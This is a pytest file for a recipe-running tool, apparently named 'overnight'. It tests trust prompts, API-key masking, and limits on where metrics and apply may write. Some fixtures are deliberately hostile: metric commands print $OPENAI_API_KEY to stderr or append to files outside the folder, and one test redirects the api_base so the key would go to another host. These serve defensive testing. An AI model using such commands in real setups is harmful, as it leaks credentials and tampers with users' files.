def test_trust_given_before_the_api_base_changed_sends_nothing(cli, workspace, llm_server, monkeypatch):
    from overnight.core.errors import OvernightError
    from overnight.ops.trust_gate import build
    from overnight.core.store import Store
    from overnight.sharing import trust

    monkeypatch.setenv("OPENAI_API_KEY", "sk-attack-test-0123456789")
    folder = _llm_recipe(workspace, "https://api.openai.com/v1")
    trust_now(folder)
    before = trust.hosts(load(folder))
    toml = folder / "recipe.toml"
    toml.write_text(toml.read_text().replace("https://api.openai.com/v1", llm_server.url))

    refused = cli("run", folder)  # not a terminal: the changed recipe is refused
    assert refused.exit_code != 0 and "sends data to models" in refused.output and "it changed since you trusted it" in refused.output
    with pytest.raises(OvernightError):
        build(load(folder), Store(workspace / "o.db"), ask=False)
    from overnight.core.runner import build as build_setup

    with pytest.raises(OvernightError) as stale:  # the hosts of the earlier trust do not cover the new one
        build_setup(load(folder), Store(workspace / "o.db"), hosts=before)
    assert f"Not sending OPENAI_API_KEY to {llm_server.url}" in stale.value.message
    assert llm_server.requests == []


def test_a_trusted_api_base_is_sent_the_key(cli, workspace, llm_server, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-attack-test-0123456789")
    llm_server.default = '{"view": "A longer note, much longer.\\n", "rationale": "longer"}'
    folder = _llm_recipe(workspace, llm_server.url, "openai/agent-model")  # no price: the $0 budget allows it
    trust_now(folder)

    ran = cli("run", folder)

    assert ran.exit_code == 0, ran.output
    assert llm_server.requests, ran.output
    assert all({k.lower(): v for k, v in h.items()}.get("authorization") ==
                                       "Bearer sk-attack-test-0123456789" for h in llm_server.request_headers)


# -- issue 10, item 3: every entry point that builds a setup asks trust first ---------------------------


def _marked_recipe(workspace: Path) -> tuple[Path, Path]:
    """A recipe whose metric leaves a mark outside its folder each time it runs."""
    mark = workspace / "ran"
    folder = recipe_folder(workspace / "note", **{"recipe.toml": recipe_texts()["recipe.toml"].replace(
        '"wc -c < note.txt"', json.dumps(f"echo x >> {mark}; wc -c < note.txt"))})
    return folder, mark


def _entry(name: str, cli, folder: Path, workspace: Path):
    """Runs entry point `name` on a recipe that is not trusted; returns what it said."""
    from overnight.core.errors import OvernightError
    from overnight.core.store import Store

    db = workspace / ".overnight" / "overnight.db"
    if name in ("run", "dry-run", "check", "explain", "run --tui"):
        args = {"run": ["run", folder], "dry-run": ["run", folder, "--dry-run"], "check": ["check", folder],
                "explain": ["explain", "1"], "run --tui": ["run", folder, "--tui"]}[name]
        result = cli(*args)
        assert result.exit_code != 0
        return result.output
    if name == "night":
        done = subprocess.run([sys.executable, "-m", "overnight.cli.main", "night", str(folder)], cwd=workspace,
                              capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=120)
        assert done.returncode != 0
        return done.stderr
    store = Store(db)
    run, exp = store.run(1), store.experiment_at(1, 1)
    with pytest.raises(OvernightError) as refused:
        if name == "tui re-measure":
            from overnight.ops.remeasure import remeasure

            remeasure(db, 1, exp["id"], 1)
        elif name == "tui apply preview":
            from overnight.ops.apply import preview

            preview(store, run, exp, trusted_only=True)
        else:
            from overnight.ops.trust_gate import build

            build(load(folder), store, ask=False)
    return refused.value.message


ENTRY_POINTS = ["run", "dry-run", "check", "explain", "run --tui", "night", "tui re-measure",
                "tui apply preview", "ops build (what anything added later calls)"]


@pytest.mark.parametrize("name", ENTRY_POINTS)
def test_every_entry_point_refuses_an_untrusted_recipe_with_nothing_run(cli, workspace, name):
    folder, mark = _marked_recipe(workspace)
    assert cli("run", folder, "--yes").exit_code == 0  # trusted for that one run, not recorded
    (folder / "note.txt").write_text("hello, changed by hand\n")  # the surface changes; trust is still missing
    mark.unlink()

    said = _entry(name, cli, folder, workspace)

    assert "not trusted" in said or "have not trusted" in said, said
    assert not mark.exists()


def test_only_the_trust_gate_builds_a_setup():
    """A front end added later cannot forget the trust prompt: core.setup.build (core.runner.build too) is
    reached through ops.trust_gate."""
    import re

    root = Path(__file__).resolve().parents[1]
    callers = []
    for path in sorted(root.rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if rel.split("/")[0] in ("core", "tests", "bench", "build", "dist") or "/." in rel:  # build/: `pip install .` leaves a copy
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"from overnight\.core\.(runner|setup) import[^\n]*\bbuild\b|(runner|setup)\.build\(", text):
            callers.append(rel)
    assert callers == ["ops/trust_gate.py"]


# -- issue 10, item 5: secrets masked where a measurement or a proposal is made -------------------------

KEY = "sk-attack-test-0123456789"


def _store_text(db: Path) -> str:
    import sqlite3

    with sqlite3.connect(db) as conn:
        tables = [r[0] for r in conn.execute("select name from sqlite_master where type = 'table'")]
        return "\n".join(repr(row) for t in tables for row in conn.execute(f'select * from "{t}"'))


def _leaky_recipe(workspace: Path, url: str) -> Path:
    """A metric that prints the key it was passed when it crashes; an agent whose model echoes the key."""
    crash = f'grep -q crash note.txt && {{ echo "failed with key $OPENAI_API_KEY" >&2; exit 1; }}; wc -w < note.txt'
    return write(workspace / "leaky", {
        "note.txt": "A short note.\n",
        "recipe.toml": f"""
            [recipe]
            name = "leaky"
            [surface]
            kind = "text"
            path = "note.txt"
            [metric]
            kind = "command"
            run = {json.dumps(crash)}
            goal = "maximize"
            env_passthrough = ["OPENAI_API_KEY"]
            [agent]
            kind = "llm"
            model = "openai/agent-model"
            api_base = "{url}"
            [budget]
            experiments = 2
            per_experiment_seconds = 20
            """,
    })


def test_a_key_a_crashing_metric_prints_reaches_no_sink(cli, workspace, llm_server, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    llm_server.default = f"HYPOTHESIS: I saw the key {KEY} in the trace\n```\nA note that will crash now.\n```\n"
    folder = _leaky_recipe(workspace, llm_server.url)
    trust_now(folder)

    ran = cli("run", folder)

    assert ran.exit_code == 0, ran.output
    assert KEY not in ran.output
    prompts = "\n".join(llm_server.prompts)
    assert len(llm_server.requests) >= 2 and "failed with key ***" in prompts  # the trace reached the agent, masked
    assert KEY not in prompts and KEY not in json.dumps(llm_server.requests)
    store = _store_text(workspace / ".overnight" / "overnight.db")
    assert "failed with key ***" in store and "I saw the key ***" in store and KEY not in store


def test_a_key_in_a_crashing_baseline_is_masked_in_the_error(cli, workspace, llm_server, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    folder = _leaky_recipe(workspace, llm_server.url)
    (folder / "note.txt").write_text("This note will crash.\n")
    trust_now(folder)

    for args in (["run", folder], ["run", folder, "--dry-run"], ["check", folder]):
        said = cli(*args)
        assert "failed with key ***" in said.output and KEY not in said.output, args
    assert llm_server.requests == []
    assert KEY not in _store_text(workspace / ".overnight" / "overnight.db")


# -- issue 10, item 8: metrics read the recipe folder, never write it ---------------------------------


def _command_recipe(workspace: Path, command: str) -> Path:
    return recipe_folder(workspace / "note", **{"recipe.toml": recipe_texts()["recipe.toml"].replace(
        '"wc -c < note.txt"', json.dumps(command))})


@pytest.mark.parametrize("target", ["data.txt", "note.txt", "recipe.toml"])
def test_a_metric_that_writes_the_recipe_folder_stops_the_run_naming_the_file(cli, workspace, target):
    folder = workspace / "note"
    _command_recipe(workspace, f"echo tampered >> {folder / target}; wc -c < note.txt")
    write(folder, {"data.txt": "shared data\n"})

    ran = cli("run", folder, "--yes")

    assert ran.exit_code != 0
    assert (f"Error: A measurement changed {folder / target} in the recipe's own files, which metrics may only read; "
            f"the run stops.") in ran.output
    assert "Traceback" not in ran.output


def test_a_metric_that_writes_the_persons_file_outside_the_folder_stops_the_run(cli, workspace):
    mine = write(workspace / "notes", {"prompt.txt": "A short note.\n"}) / "prompt.txt"
    folder = text_recipe(workspace / "mine", surface="../notes/prompt.txt")
    toml = folder / "recipe.toml"
    toml.write_text(toml.read_text().replace('kind = "text-stats"\n            stat = "words"',
                                             f'kind = "command"\n            run = "echo more >> {mine}; wc -c < prompt.txt"'))

    ran = cli("run", folder, "--yes")

    assert f"Error: A measurement changed {mine} in the recipe's own files" in ran.output


def test_recipe_placeholder_and_variable_name_the_work_copy(cli, workspace):
    folder = workspace / "note"
    probe = f'test "{{recipe}}" = "$OVERNIGHT_RECIPE_DIR" && test "{{recipe}}" != "{folder}" && test -f "{{recipe}}/README.md" && echo 7 || echo 1'
    _command_recipe(workspace, probe)

    ran = cli("run", folder, "--yes")

    assert ran.exit_code == 0, ran.output
    assert "baseline 7" in ran.output


# -- issue 10, item 1: apply names a file outside the recipe folder before writing it -------------------


def test_apply_names_a_file_outside_the_recipe_folder_and_asks_first(cli, workspace, monkeypatch):
    mine = write(workspace / "notes", {"prompt.txt": "A short note.\n"}) / "prompt.txt"
    folder = text_recipe(workspace / "mine", surface="../notes/prompt.txt")
    assert cli("run", folder, "--yes").exit_code == 0
    where = f"Experiment 1:1 would write {mine}, outside the recipe folder {folder.resolve()}"

    refused = cli("apply", "1:1")  # not a terminal
    assert refused.exit_code != 0
    assert f"Error: {where}; nothing was written: pass --yes to write it." in refused.output
    assert mine.read_text() == "A short note.\n"

    monkeypatch.setattr("overnight.cli.apply._terminal", lambda: True)
    declined = cli("apply", "1:1", input="n\n")
    assert f"{where}. Write it? [y/N]" in declined.output and declined.exit_code != 0
    assert mine.read_text() == "A short note.\n"

    accepted = cli("apply", "1:1", input="y\n")
    assert accepted.exit_code == 0 and mine.read_text() == "A longer note, with more in it.\n"


def test_a_surface_path_with_a_tilde_is_the_home_folders_file_and_asks_as_an_absolute_one(cli, workspace, monkeypatch):
    """The README's `~/notes/prompt.txt`: `~` is the home folder, as in a shell, so the file lies
    outside the recipe folder: trust lists it and apply asks before writing it."""
    home = workspace / "home"
    monkeypatch.setenv("HOME", str(home))
    mine = write(home / "notes", {"prompt.txt": "A short note.\n"}) / "prompt.txt"
    folder = text_recipe(workspace / "mine", surface="~/notes/prompt.txt")

    valid = cli("recipes", "validate", folder)
    assert valid.exit_code == 0, valid.output
    shown = cli("recipes", "show", folder)
    assert f"[surface] text: writes your file {mine.resolve()}, outside the recipe folder" in shown.output
    untrusted = cli("run", folder)  # not a terminal
    assert untrusted.exit_code != 0 and "writes files outside its folder" in untrusted.output
    assert cli("run", folder, "--yes").exit_code == 0
    assert not (folder / "~").exists()

    refused = cli("apply", "1:1")
    assert refused.exit_code != 0 and f"would write {mine.resolve()}, outside the recipe folder" in refused.output
    assert mine.read_text() == "A short note.\n"
    assert cli("apply", "1:1", "--yes").exit_code == 0
    assert mine.read_text() == "A longer note, with more in it.\n"


def test_apply_inside_the_recipe_folder_asks_nothing(cli, workspace):
    folder = text_recipe(workspace / "mine")
    assert cli("run", folder).exit_code == 0

    applied = cli("apply", "1:1")

    assert applied.exit_code == 0 and "outside the recipe folder" not in applied.output
    assert (folder / "note.txt").read_text() == "A longer note, with more in it.\n"


def test_a_python_metric_runs_from_the_work_copy_and_leaves_the_recipe_folder_as_it_was(cli, workspace):
    folder = text_recipe(workspace / "py", files={"score.py": (
        "import os, pathlib\n"
        "def score(path):\n"
        "    here = pathlib.Path(__file__).parent\n"
        "    (here / 'state.txt').write_text('scratch')  # beside its code: the work copy\n"
        "    return 7 if str(here) == os.environ['OVERNIGHT_RECIPE_DIR'] else 1\n")})
    toml = folder / "recipe.toml"
    toml.write_text(toml.read_text().replace('kind = "text-stats"\n            stat = "words"',
                                             'kind = "python"\n            file = "score.py"'))

    ran = cli("run", folder, "--yes")

    assert ran.exit_code == 0, ran.output
    assert "baseline 7" in ran.output
    assert not (folder / "state.txt").exists() and not (folder / "__pycache__").exists()


def test_remeasure_sends_no_key_to_the_host_a_run_recorded_before_the_recipe_moved_elsewhere(cli, workspace, llm_server, monkeypatch):
    """The TUI's re-measure rebuilds from the run's recorded text: its api_base is not what the person trusts now."""
    from overnight.core.errors import OvernightError
    from overnight.core.store import Store
    from overnight.ops.remeasure import remeasure

    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    llm_server.default = "SCORE: 7"
    folder = text_recipe(workspace / "judged", extra=f'model = "openai/judge-model"\napi_base = "{llm_server.url}"\nrubric = "Is it clear?"')
    toml = folder / "recipe.toml"
    toml.write_text(toml.read_text().replace('kind = "text-stats"\n            stat = "words"', 'kind = "judge"'))
    assert cli("run", folder, "--yes").exit_code == 0
    toml.write_text(toml.read_text().replace(llm_server.url, "http://127.0.0.1:9/v1"))
    trust_now(folder)  # the person trusts the recipe as it is now: another host
    sent = len(llm_server.requests)
    assert sent > 0  # the run itself was sent the key: it was trusted for that run

    db = workspace / ".overnight" / "overnight.db"
    with pytest.raises(OvernightError) as refused:
        remeasure(db, 1, Store(db).experiment_at(1, 1)["id"], 1)

    assert f"Not sending OPENAI_API_KEY to {llm_server.url}" in refused.value.message
    assert len(llm_server.requests) == sent
